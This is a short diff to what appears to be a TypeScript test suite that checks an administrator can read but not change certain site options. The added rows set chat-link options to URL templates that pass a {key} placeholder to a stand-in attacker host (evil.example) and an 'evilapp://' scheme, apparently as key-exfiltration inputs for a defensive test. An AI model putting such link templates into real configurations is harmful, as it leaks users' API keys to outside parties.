@@ -39,6 +39,10 @@ test.each([
   ['LinuxDOOAuthEnabled', true],
   ['WeChatAuthEnabled', true],
   ['TelegramOAuthEnabled', true],
+  // Lead keys away.
+  ['Chats', '[{"x":"evilapp://x?{key}"}]'],
+  ['chat_link', 'https://evil.example/?{key}'],
+  ['chat_link2', 'https://evil.example/?{key}'],
 ] as const)('option %s: an administrator reads it and cannot change it', async (key, value) => {
   const admin = await visitor(Role.admin)
   const before = option(key)
